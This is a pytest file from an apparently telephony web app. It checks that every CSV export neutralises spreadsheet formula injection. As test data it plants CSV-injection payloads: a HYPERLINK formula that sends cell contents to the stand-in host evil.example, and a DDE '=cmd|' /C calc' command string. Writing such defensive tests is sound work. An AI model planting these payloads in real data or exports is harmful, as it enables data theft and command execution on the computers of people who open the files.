"""Every CSV the app serves is safe to open in a spreadsheet: found by walking the URL map, so a new CSV
route is covered (or fails here until it is given its arguments)."""

import csv
import io
from datetime import datetime, timedelta, timezone

import sqlalchemy as sa

from pbxweb.auth.service import create_user
from pbxweb.realtime.schema import queue_log

from .test_access import signed_in
from .test_cdr import leg

# What a spreadsheet runs as a formula when a cell starts with it.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_GROUP = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# The URL arguments of each CSV route that has some.
ARGUMENTS = {"calls.stats_csv": [{"table": table} for table in ("days", "hours", "extensions", "groups", "agents")]}


def csv_urls(app):
    with app.test_request_context():
        from flask import url_for

        for rule in app.url_map.iter_rules():
            if rule.rule.endswith(".csv") and "GET" in rule.methods:
                assert not rule.arguments or rule.endpoint in ARGUMENTS, f"give {rule.endpoint} its arguments here"
                for arguments in ARGUMENTS.get(rule.endpoint, [{}]):
                    yield url_for(rule.endpoint, **arguments)


def test_no_cell_of_any_csv_starts_like_a_formula(app, api, db):
    api.post("/api/extensions", json={"number": "1001", "name": "=cmd|' /C calc'!A0"})
    group = api.post("/api/groups", json={"name": HOSTILE_GROUP, "members": [{"number": "1001"}]})
    assert group.status_code == 201, group.get_json()
    with db.engine.begin() as conn:
        leg(conn, "900.1", at=-60, src="+31612345678", dst="s", channel="PJSIP/provider-00000001",
            dstchannel="PJSIP/1001-00000002", lastapp="Queue", lastdata=f"extgroup_{group.get_json()['id']},t,,,60",
            clid='"@SUM(1+1)" <+31612345678>', duration=40, billsec=30)
        leg(conn, "900.2", at=-30, src="-1+2", dst="=1+1", clid='"\t=1+1" <-1+2>', sequence=3)
        # The group report counts what the queue log says of the group's callers.
        conn.execute(sa.insert(queue_log), [
            {"time": datetime.now(timezone.utc).replace(tzinfo=None) - timedelta(seconds=60), "callid": "900.1",
             "queuename": f"extgroup_{group.get_json()['id']}", "agent": "NONE", "event": "ENTERQUEUE",
             "data1": "", "data2": "+31612345678", "data3": "1"},
            {"time": datetime.now(timezone.utc).replace(tzinfo=None) - timedelta(seconds=50), "callid": "900.1",
             "queuename": f"extgroup_{group.get_json()['id']}", "agent": "=cmd|' /C calc'!A0", "event": "CONNECT",
             "data1": "10", "data2": "900.3", "data3": "10"}])
    admin, _ = create_user("boss", "admin", "correct horse battery")
    browser = signed_in(app, admin)
    cells = {}
    for url in csv_urls(app):
        response = browser.get(url)
        assert response.status_code == 200, url
        cells[url] = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]
        assert [cell for cell in cells[url] if cell.startswith(FORMULA_START)] == [], url
    assert {"/extensions/export.csv", "/calls/export.csv", "/calls/stats/groups.csv", "/calls/stats/agents.csv"} <= set(cells)
    assert "'" + HOSTILE_GROUP in cells["/calls/stats/groups.csv"] and "'" + HOSTILE_GROUP in cells["/calls/export.csv"]
